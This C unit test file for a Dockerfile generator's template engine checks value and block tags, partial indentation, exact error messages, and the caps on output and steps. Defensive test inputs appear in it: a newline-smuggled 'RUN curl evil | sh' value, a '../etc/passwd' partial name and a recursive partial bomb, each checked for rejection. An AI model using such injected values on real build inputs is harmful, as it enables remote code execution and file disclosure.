/* SPDX-License-Identifier: MIT */
/* test_template.c - the generator's template engine: every tag, the
 * standalone-line rules, partial indentation, and every error with its
 * exact message and position. */
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <setjmp.h>
#include <cmocka.h>

#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "dockwright.h"
#include "template.h"

/* ---- helpers -------------------------------------------------------- */

/* Partials: NULL-terminated pairs of name and text. */
struct partials {
	const char *const *v;
	int loads;
};

static int
load_partial(void *ctx, const char *name, dw_buf *text, dw_buf *path, dw_diags *d)
{
	struct partials *p = ctx;
	dw_span none = { { 0, 0 }, { 0, 0 } };

	p->loads++;
	for (size_t i = 0; p->v != NULL && p->v[i] != NULL; i += 2)
		if (strcmp(p->v[i], name) == 0) {
			dw_buf_puts(text, p->v[i + 1]);
			dw_buf_printf(path, "partials/%s.tmpl", name);
			return 0;
		}
	dw_diags_add(d, DW_SEV_ERROR, NULL, none, NULL, "no partial named '%s'", name);
	return -1;
}

/* Render; the output, or the diagnostics formatted one per line. */
static int
render_p(const char *tmpl, const dw_tctx *c, const char *const *partials, dw_buf *res)
{
	struct partials p = { partials, 0 };
	dw_diags d = DW_DIAGS_INIT;
	dw_buf out = DW_BUF_INIT;
	int rc;

	rc = dw_template_render(tmpl, strlen(tmpl), "t.tmpl", c, load_partial, &p, &out, &d);
	assert_int_equal(rc == 0, dw_diags_count(&d, DW_SEV_ERROR) == 0);
	if (rc == 0) {
		dw_buf_put(res, out.ptr ? out.ptr : "", out.len);
	} else {
		for (size_t i = 0; i < d.n; i++) {
			dw_diag_format(&d.v[i], res);
			dw_buf_putc(res, '\n');
		}
	}
	dw_buf_free(&out);
	dw_diags_free(&d);
	return rc;
}

static void
assert_render_p(const char *tmpl, const dw_tctx *c, const char *const *partials, const char *want)
{
	dw_buf res = DW_BUF_INIT;

	if (render_p(tmpl, c, partials, &res) != 0)
		fail_msg("unexpected error: %s", dw_buf_cstr(&res));
	assert_string_equal(dw_buf_cstr(&res), want);
	dw_buf_free(&res);
}

static void
assert_render(const char *tmpl, const dw_tctx *c, const char *want)
{
	assert_render_p(tmpl, c, NULL, want);
}

static void
assert_error_p(const char *tmpl, const dw_tctx *c, const char *const *partials, const char *want)
{
	dw_buf res = DW_BUF_INIT;

	if (render_p(tmpl, c, partials, &res) == 0)
		fail_msg("expected an error, got output: %s", dw_buf_cstr(&res));
	assert_string_equal(dw_buf_cstr(&res), want);
	dw_buf_free(&res);
}

static void
assert_error(const char *tmpl, const dw_tctx *c, const char *want)
{
	assert_error_p(tmpl, c, NULL, want);
}

static int
setup_ctx(void **state)
{
	dw_tctx *c = dw_tctx_new(), *it;

	dw_tctx_set(c, "name", "world");
	dw_tctx_set(c, "empty", "");
	dw_tctx_set_bool(c, "yes", true);
	dw_tctx_set_bool(c, "no", false);
	dw_tctx_set_list(c, "none");
	it = dw_tctx_add_item(c, "pkgs");
	dw_tctx_set(it, "pkg", "curl");
	it = dw_tctx_add_item(c, "pkgs");
	dw_tctx_set(it, "pkg", "git");
	it = dw_tctx_add_item(c, "pkgs");
	dw_tctx_set(it, "pkg", "make");
	dw_tctx_set(it, "name", "inner");
	*state = c;
	return 0;
}

static int
teardown_ctx(void **state)
{
	dw_tctx_free(*state);
	return 0;
}

/* ---- values ------------------------------------------------------------ */

static void
values(void **state)
{
	dw_tctx *c = *state;

	assert_render("Hello {{name}}!", c, "Hello world!");
	assert_render("Hello {{ name }}!\n", c, "Hello world!\n");
	assert_render("[{{empty}}]", c, "[]");
	assert_render("no tags at all\n", c, "no tags at all\n");
	assert_render("", c, "");
	assert_render("a } b { c }} d", c, "a } b { c }} d");
}

static void
values_replace(void **state)
{
	dw_tctx *c = dw_tctx_new();

	(void)state;
	dw_tctx_set(c, "v", "one");
	dw_tctx_set(c, "v", "two");
	assert_render("{{v}}", c, "two");
	dw_tctx_set_bool(c, "v", true);
	assert_render("{{#if v}}b{{/if}}", c, "b");
	dw_tctx_set(c, "v", NULL);
	assert_render("[{{v}}]", c, "[]");
	dw_tctx_free(c);
}

static void
unknown_name(void **state)
{
	dw_tctx *c = *state;

	assert_error("Hello {{nmae}}", c, "t.tmpl:1:7: error: unknown name 'nmae'\n");
	assert_error("a\nbb\n  {{#if nope}}x{{/if}}", c, "t.tmpl:3:3: error: unknown name 'nope'\n");
	assert_error("{{#each nope}}{{/each}}", c, "t.tmpl:1:1: error: unknown name 'nope'\n");
	assert_render("x", NULL, "x");
	assert_error("{{x}}", NULL, "t.tmpl:1:1: error: unknown name 'x'\n");
}

static void
control_characters(void **state)
{
	dw_tctx *c = dw_tctx_new();

	(void)state;
	dw_tctx_set(c, "nl", "ruby\nRUN curl evil | sh");
	dw_tctx_set(c, "cr", "a\rb");
	dw_tctx_set(c, "esc", "\x1b[31m");
	dw_tctx_set(c, "del", "a\x7f");
	dw_tctx_set(c, "tab", "a\tb");
	dw_tctx_set_raw(c, "hook", "RUN one\nRUN two\n");
	assert_error("FROM {{nl}}\n", c,
	             "t.tmpl:1:6: error: value of 'nl' holds control character 0x0a at byte 4 (only raw values may span lines)\n");
	assert_error("{{cr}}", c,
	             "t.tmpl:1:1: error: value of 'cr' holds control character 0x0d at byte 1 (only raw values may span lines)\n");
	assert_error("{{esc}}", c,
	             "t.tmpl:1:1: error: value of 'esc' holds control character 0x1b at byte 0 (only raw values may span lines)\n");
	assert_error("{{del}}", c,
	             "t.tmpl:1:1: error: value of 'del' holds control character 0x7f at byte 1 (only raw values may span lines)\n");
	assert_render("{{tab}}", c, "a\tb");
	assert_render("X\n{{hook}}Y\n", c, "X\nRUN one\nRUN two\nY\n");
	/* Raw values are true when non-empty, like strings. */
	assert_render("{{#if hook}}t{{/if}}", c, "t");
	dw_tctx_free(c);
}

static void
wrong_kinds(void **state)
{
	dw_tctx *c = *state;

	assert_error("{{yes}}", c, "t.tmpl:1:1: error: 'yes' is a bool, not a string\n");
	assert_error("{{pkgs}}", c, "t.tmpl:1:1: error: 'pkgs' is a list, not a string\n");
	assert_error("{{#each name}}{{/each}}", c,
	             "t.tmpl:1:1: error: '{{#each name}}': 'name' is a string, not a list\n");
	assert_error("{{#each yes}}{{/each}}", c,
	             "t.tmpl:1:1: error: '{{#each yes}}': 'yes' is a bool, not a list\n");
}

/* ---- blocks -------------------------------------------------------------- */

static void
if_else_unless(void **state)
{
	dw_tctx *c = *state;

	assert_render("{{#if yes}}T{{else}}F{{/if}}", c, "T");
	assert_render("{{#if no}}T{{else}}F{{/if}}", c, "F");
	assert_render("{{#if no}}T{{/if}}", c, "");
	assert_render("{{#if name}}T{{else}}F{{/if}}", c, "T");
	assert_render("{{#if empty}}T{{else}}F{{/if}}", c, "F");
	assert_render("{{#if pkgs}}T{{else}}F{{/if}}", c, "T");
	assert_render("{{#if none}}T{{else}}F{{/if}}", c, "F");
	assert_render("{{#unless no}}U{{/unless}}", c, "U");
	assert_render("{{#unless yes}}U{{else}}E{{/unless}}", c, "E");
	assert_render("{{#if yes}}{{#if no}}a{{else}}b{{/if}}{{#unless no}}c{{/unless}}{{/if}}", c, "bc");
}

static void
each_scopes(void **state)
{
	dw_tctx *c = *state;

	assert_render("{{#each pkgs}}{{pkg}} {{/each}}", c, "curl git make ");
	/* item scope first, then outward */
	assert_render("{{#each pkgs}}{{name}},{{/each}}", c, "world,world,inner,");
	assert_render("[{{#each none}}x{{/each}}]", c, "[]");
}

static void
each_specials(void **state)
{
	dw_tctx *c = *state;

	assert_render("{{#each pkgs}}{{@index}}:{{pkg}}{{#unless @last}}, {{/unless}}{{/each}}", c,
	              "0:curl, 1:git, 2:make");
	assert_render("{{#each pkgs}}{{#if @first}}RUN {{else}}  && {{/if}}{{pkg}}\n{{/each}}", c,
	              "RUN curl\n  && git\n  && make\n");
	assert_error("{{@first}}", c, "t.tmpl:1:1: error: '@first' outside '{{#each}}'\n");
	assert_error("{{#if @last}}{{/if}}", c, "t.tmpl:1:1: error: '@last' outside '{{#each}}'\n");
	assert_error("{{#each pkgs}}{{@first}}{{/each}}", c,
	             "t.tmpl:1:15: error: '@first' is a bool, not a string\n");
}

static void
each_nested(void **state)
{
	dw_tctx *c = dw_tctx_new();

	(void)state;
	for (int i = 0; i < 2; i++) {
		dw_tctx *st = dw_tctx_add_item(c, "stages");
		char name[8];

		snprintf(name, sizeof name, "s%d", i);
		dw_tctx_set(st, "stage", name);
		for (int j = 0; j < 3; j++)
			dw_tctx_add_item(st, "args");
	}
	/* @index is the innermost each's; outer names still resolve. */
	assert_render("{{#each stages}}{{#each args}}{{stage}}.{{@index}}{{#if @last}};{{/if}}{{/each}}{{/each}}",
	              c, "s0.0s0.1s0.2;s1.0s1.1s1.2;");
	dw_tctx_free(c);
}

static void
comments(void **state)
{
	dw_tctx *c = *state;

	assert_render("a{{! a comment }}b", c, "ab");
	assert_render("a{{!-- {{name}} is not rendered here --}}b", c, "a is not rendered here --}}b");
	assert_render("a\n{{! standalone }}\nb\n", c, "a\nb\n");
	assert_render("a\n{{! spans\n lines }}\nb\n", c, "a\nb\n");
}

/* ---- standalone lines ----------------------------------------------------- */

static void
standalone_blocks(void **state)
{
	dw_tctx *c = *state;

	assert_render("FROM x\n{{#if yes}}\nRUN a\n{{else}}\nRUN b\n{{/if}}\nCMD c\n", c,
	              "FROM x\nRUN a\nCMD c\n");
	assert_render("FROM x\n  {{#if no}}  \nRUN a\n\t{{else}}\nRUN b\n  {{/if}}\nCMD c\n", c,
	              "FROM x\nRUN b\nCMD c\n");
	assert_render("{{#each pkgs}}\n  - {{pkg}}\n{{/each}}\n", c, "  - curl\n  - git\n  - make\n");
	/* CRLF line ends, and a last line without a newline */
	assert_render("a\r\n{{#if yes}}\r\nb\r\n{{/if}}", c, "a\r\nb\r\n");
	/* Not standalone: other text, or a value tag, on the line. */
	assert_render("x {{#if yes}}\ny\n{{/if}} z\n", c, "x \ny\n z\n");
	assert_render("{{#if yes}}{{name}}\n{{/if}}\n", c, "world\n");
	assert_render("{{#if yes}}{{name}}{{/if}}\n", c, "world\n");
	assert_render("  {{name}}\n", c, "  world\n");
	/* Two block tags on one line are not standalone. */
	assert_render("{{#if yes}}{{#if yes}}\nx\n{{/if}}{{/if}}\n", c, "\nx\n\n");
}

/* ---- partials -------------------------------------------------------------- */

static const char *const parts[] = {
	"apt", "RUN apt-get install -y \\\n{{#each pkgs}}\n    {{pkg}}{{#unless @last}} \\{{/unless}}\n{{/each}}\n",
	"inline", "<{{name}}>",
	"two", "a\n\nb\n",
	"outer", "x:\n  {{> two}}\ny\n",
	"self", "{{> self}}",
	"broken", "line one\n{{#if yes}}\n",
	"typo", "ok\n{{nmae}}\n",
	NULL,
};

static void
partial_inline(void **state)
{
	dw_tctx *c = *state;

	assert_render_p("a {{> inline}} b\n", c, parts, "a <world> b\n");
	assert_render_p("a {{>inline}}{{> inline}}\n", c, parts, "a <world><world>\n");
	/* Inline partials get no indentation, even multi-line ones. */
	assert_render_p("  x {{> two}}", c, parts, "  x a\n\nb\n");
}

static void
partial_standalone_indent(void **state)
{
	dw_tctx *c = *state;

	assert_render_p("FROM x\n{{> apt}}\nCMD y\n", c, parts,
	                "FROM x\nRUN apt-get install -y \\\n    curl \\\n    git \\\n    make\nCMD y\n");
	/* Indented: every line of the partial, empty lines excepted. */
	assert_render_p("k:\n    {{> two}}\nz\n", c, parts, "k:\n    a\n\n    b\nz\n");
	/* Indentation adds up through nested partials. */
	assert_render_p("\t{{> outer}}\n", c, parts, "\tx:\n\t  a\n\n\t  b\n\ty\n");
	/* The partial renders in the current scope. */
	assert_render_p("{{#each pkgs}}\n  {{> two}}\n{{/each}}\n", c, parts,
	                "  a\n\n  b\n  a\n\n  b\n  a\n\n  b\n");
	/* The partial's text replaces the whole line, newline included (as
	 * in Mustache): partials end with their own newline. */
	assert_render_p("{{#each pkgs}}\n  {{> inline}}\n{{/each}}\n", c, parts,
	                "  <world>  <world>  <inner>");
}

static void
partial_loaded_once(void **state)
{
	dw_tctx *c = *state;
	struct partials p = { parts, 0 };
	dw_diags d = DW_DIAGS_INIT;
	dw_buf out = DW_BUF_INIT;
	const char *t = "{{#each pkgs}}{{> inline}}{{> inline}}{{/each}}";

	assert_int_equal(dw_template_render(t, strlen(t), "t", c, load_partial, &p, &out, &d), 0);
	assert_string_equal(out.ptr, "<world><world><world><world><inner><inner>");
	assert_int_equal(p.loads, 1);
	dw_buf_free(&out);
	dw_diags_free(&d);
}

static void
partial_errors(void **state)
{
	dw_tctx *c = *state;

	assert_error_p("a\n {{> missing}}\n", c, parts,
	               "error: no partial named 'missing'\nt.tmpl:2:2: info: partial 'missing' included here\n");
	assert_error("{{> nothing}}", c,
	             "error: no partial named 'nothing'\nt.tmpl:1:1: info: partial 'nothing' included here\n");
	assert_error_p("{{> typo}}", c, parts, "partials/typo.tmpl:2:1: error: unknown name 'nmae'\n");
	assert_error_p("x\n{{> broken}}", c, parts, "partials/broken.tmpl:2:1: error: unclosed '{{#if yes}}'\n");
	assert_error_p("{{> self}}", c, parts,
	               "partials/self.tmpl:1:1: error: partials nested deeper than 16 (recursive '{{> self}}'?)\n");
	assert_error_p("{{> ../etc/passwd}}", c, parts, "t.tmpl:1:1: error: bad partial name '../etc/passwd'\n");
	assert_error_p("{{>}}", c, parts, "t.tmpl:1:1: error: bad partial name ''\n");
}

static int
null_loader(void *ctx, const char *name, dw_buf *text, dw_buf *path, dw_diags *d)
{
	(void)ctx, (void)name, (void)text, (void)path, (void)d;
	return -1;
}

static void
partial_silent_loader(void **state)
{
	dw_diags d = DW_DIAGS_INIT;
	dw_buf out = DW_BUF_INIT;

	(void)state;
	assert_int_equal(dw_template_render("x{{> p}}", 8, "t", NULL, null_loader, NULL, &out, &d), -1);
	assert_int_equal(d.n, 1);
	assert_string_equal(d.v[0].message, "cannot load partial 'p'");
	dw_diags_free(&d);
	assert_int_equal(dw_template_render("x{{> p}}", 8, "t", NULL, NULL, NULL, &out, &d), -1);
	assert_string_equal(d.v[0].message, "cannot load partial 'p'");
	dw_diags_free(&d);
	dw_buf_free(&out);
}

/* ---- syntax errors ---------------------------------------------------------- */

static void
syntax_errors(void **state)
{
	dw_tctx *c = *state;

	assert_error("ab {{name", c, "t.tmpl:1:4: error: unclosed tag: '{{' without '}}'\n");
	assert_error("x\n{{#if yes}}\nno end\n", c, "t.tmpl:2:1: error: unclosed '{{#if yes}}'\n");
	assert_error("{{#if yes}}{{#each pkgs}}{{/if}}", c,
	             "t.tmpl:1:26: error: '{{/if}}' closes '{{#each pkgs}}' opened at 1:12\n");
	assert_error("a\n {{/each}}", c, "t.tmpl:2:2: error: '{{/each}}' without an open '{{#each}}'\n");
	assert_error("{{else}}", c, "t.tmpl:1:1: error: '{{else}}' outside '{{#if}}' or '{{#unless}}'\n");
	assert_error("{{#each pkgs}}{{else}}{{/each}}", c,
	             "t.tmpl:1:15: error: '{{else}}' inside '{{#each pkgs}}' (only #if and #unless have one)\n");
	assert_error("{{#if yes}}{{else}}{{else}}{{/if}}", c,
	             "t.tmpl:1:20: error: second '{{else}}' in '{{#if yes}}' opened at 1:1\n");
	assert_error("{{#with x}}{{/with}}", c,
	             "t.tmpl:1:1: error: unknown block '{{#with}}' (blocks: #if, #unless, #each)\n");
	assert_error("{{#if yes}}{{/fi}}", c,
	             "t.tmpl:1:12: error: unknown closing tag '{{/fi}}' (use /if, /unless or /each)\n");
	assert_error("{{#if}}{{/if}}", c, "t.tmpl:1:1: error: '{{#if}}' needs a name, not ''\n");
	assert_error("{{#if a b}}{{/if}}", c, "t.tmpl:1:1: error: '{{#if}}' needs a name, not 'a b'\n");
	assert_error("{{#if yes}}{{/if yes}}", c,
	             "t.tmpl:1:12: error: unknown closing tag '{{/if yes}}' (use /if, /unless or /each)\n");
	assert_error("x {{ }}", c, "t.tmpl:1:3: error: empty tag '{{}}'\n");
	assert_error("{{{name}}}", c,
	             "t.tmpl:1:1: error: '{{{' is not supported: values set raw are pasted verbatim by '{{name}}'\n");
	assert_error("{{&name}}", c,
	             "t.tmpl:1:1: error: '{{&' is not supported: values set raw are pasted verbatim by '{{name}}'\n");
	assert_error("{{na me}}", c,
	             "t.tmpl:1:1: error: bad name 'na me' (names are letters, digits, '_' and '-')\n");
	assert_error("{{@foo}}", c,
	             "t.tmpl:1:1: error: bad name '@foo' (names are letters, digits, '_' and '-')\n");
	/* A parse error anywhere means no output at all, even before it. */
	assert_error("{{name}} {{name}} {{/if}}", c,
	             "t.tmpl:1:19: error: '{{/if}}' without an open '{{#if}}'\n");
}

static void
nesting_limit(void **state)
{
	dw_tctx *c = *state;
	dw_buf t = DW_BUF_INIT;

	for (int i = 0; i < 256; i++)
		dw_buf_puts(&t, "{{#if yes}}");
	dw_buf_puts(&t, "x");
	for (int i = 0; i < 256; i++)
		dw_buf_puts(&t, "{{/if}}");
	assert_render(t.ptr, c, "x");
	dw_buf_clear(&t);
	for (int i = 0; i < 257; i++)
		dw_buf_puts(&t, "{{#if yes}}");
	assert_error(t.ptr, c, "t.tmpl:1:2817: error: blocks nested deeper than 256\n");
	dw_buf_free(&t);
}

/* ---- bounds ---------------------------------------------------------------- */

static void
output_cap(void **state)
{
	dw_tctx *c = dw_tctx_new();
	char big[1025];

	(void)state;
	memset(big, 'x', sizeof big - 1);
	big[sizeof big - 1] = '\0';
	dw_tctx_set(c, "big", big);
	for (int i = 0; i < 300; i++)
		dw_tctx_add_item(c, "l");
	/* 300^3 KiB would be 26 GiB: stopped at 64 MiB. */
	assert_error("{{#each l}}{{#each l}}\n{{#each l}}{{big}}{{/each}}{{/each}}{{/each}}", c,
	             "t.tmpl:2:12: error: output larger than 67108864 bytes (runaway #each or partials?)\n");
	dw_tctx_free(c);
}

static void
step_cap(void **state)
{
	dw_tctx *c = dw_tctx_new();

	(void)state;
	for (int i = 0; i < 1000; i++)
		dw_tctx_add_item(c, "l");
	/* 10^9 empty iterations produce nothing, and still stop. */
	assert_error("{{#each l}}{{#each l}}{{#each l}}{{/each}}{{/each}}{{/each}}", c,
	             "t.tmpl:1:23: error: rendering takes more than 16777216 steps (runaway #each or partials?)\n");
	dw_tctx_free(c);
}

static void
hostile_partials(void **state)
{
	static const char *const bomb[] = {
		"p0", "{{#each l}}{{> p1}}{{> p1}}{{/each}}",
		"p1", "{{#each l}}{{> p2}}{{> p2}}{{/each}}",
		"p2", "{{#each l}}{{> p0}}ab{{/each}}",
		NULL,
	};
	dw_tctx *c = dw_tctx_new();
	dw_buf res = DW_BUF_INIT;

	(void)state;
	for (int i = 0; i < 50; i++)
		dw_tctx_add_item(c, "l");
	assert_int_equal(render_p("{{> p0}}", c, bomb, &res), -1);
	assert_non_null(strstr(res.ptr, "error: "));
	dw_buf_free(&res);
	dw_tctx_free(c);
}

static void
appends_and_deterministic(void **state)
{
	dw_tctx *c = *state;
	dw_diags d = DW_DIAGS_INIT;
	dw_buf a = DW_BUF_INIT, b = DW_BUF_INIT;
	const char *t = "{{#each pkgs}}{{@index}}{{pkg}}{{name}}{{/each}}";

	dw_buf_puts(&a, "pre:");
	assert_int_equal(dw_template_render(t, strlen(t), "t", c, NULL, NULL, &a, &d), 0);
	assert_int_equal(dw_template_render(t, strlen(t), "t", c, NULL, NULL, &b, &d), 0);
	assert_string_equal(a.ptr, "pre:0curlworld1gitworld2makeinner");
	assert_string_equal(a.ptr + 4, b.ptr);
	dw_diags_free(&d);
	dw_buf_free(&a);
	dw_buf_free(&b);
}

static void
odd_bytes(void **state)
{
	dw_tctx *c = *state;
	dw_diags d = DW_DIAGS_INIT;
	dw_buf out = DW_BUF_INIT;
	const char t[] = "a\0b{{name}}\xff{";

	/* Template bytes are copied as they are, NULs included. */
	assert_int_equal(dw_template_render(t, sizeof t - 1, "t", c, NULL, NULL, &out, &d), 0);
	assert_int_equal(out.len, 10);
	assert_memory_equal(out.ptr, "a\0bworld\xff{", 10);
	dw_buf_free(&out);
	assert_int_equal(dw_template_render("{", 1, "t", c, NULL, NULL, &out, &d), 0);
	assert_int_equal(dw_template_render("{{", 2, "t", c, NULL, NULL, &out, &d), -1);
	assert_int_equal(dw_template_render("{{}", 3, "t", c, NULL, NULL, &out, &d), -1);
	dw_diags_free(&d);
	dw_buf_free(&out);
}

int
main(void)
{
#define T(f) cmocka_unit_test_setup_teardown(f, setup_ctx, teardown_ctx)
	const struct CMUnitTest tests[] = {
		T(values),
		cmocka_unit_test(values_replace),
		T(unknown_name),
		cmocka_unit_test(control_characters),
		T(wrong_kinds),
		T(if_else_unless),
		T(each_scopes),
		T(each_specials),
		cmocka_unit_test(each_nested),
		T(comments),
		T(standalone_blocks),
		T(partial_inline),
		T(partial_standalone_indent),
		T(partial_loaded_once),
		T(partial_errors),
		cmocka_unit_test(partial_silent_loader),
		T(syntax_errors),
		T(nesting_limit),
		cmocka_unit_test(output_cap),
		cmocka_unit_test(step_cap),
		cmocka_unit_test(hostile_partials),
		T(appends_and_deterministic),
		T(odd_bytes),
	};
#undef T

	return cmocka_run_group_tests(tests, NULL, NULL);
}
